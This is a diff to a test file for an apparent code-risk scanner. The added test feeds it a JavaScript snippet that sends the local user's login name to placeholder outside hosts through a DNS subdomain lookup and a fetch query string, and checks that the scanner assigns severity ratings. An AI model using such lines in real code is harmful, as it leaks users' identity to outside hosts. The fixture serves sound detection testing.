@@ -623,3 +623,15 @@ def test_python_download_pinned_to_a_digest_or_given_to_tar_is_medium_run_unchec
                     "    if hashlib.sha256(open(path, 'rb').read()).hexdigest() != SHA:\n"
                     "        raise RuntimeError('too late')\n")
     assert _by_line("download-and-run-file", "tools/get.py", after) == {5: "critical"}
+
+
+def test_login_name_in_a_socket_message_is_medium_in_a_resolver_lookup_high():
+    # a WebSocket send takes the message: the login name in a chat greeting is not a URL or a DNS name
+    text = ("const os = require('os');\n"
+            "const { Resolver } = require('dns').promises;\n"
+            "const WebSocket = require('ws');\n"
+            "const ws = new WebSocket('ws://localhost:8080/chat');\n"
+            "ws.send(JSON.stringify({ user: os.userInfo().username }));\n"
+            "new Resolver().resolve4(os.userInfo().username + '.b.example.net');\n"
+            "fetch('https://t.example.net/?u=' + os.userInfo().username);\n")
+    assert _by_line("host-identity-sent-over-network", "m.js", text) == {5: "medium", 6: "high", 7: "high"}
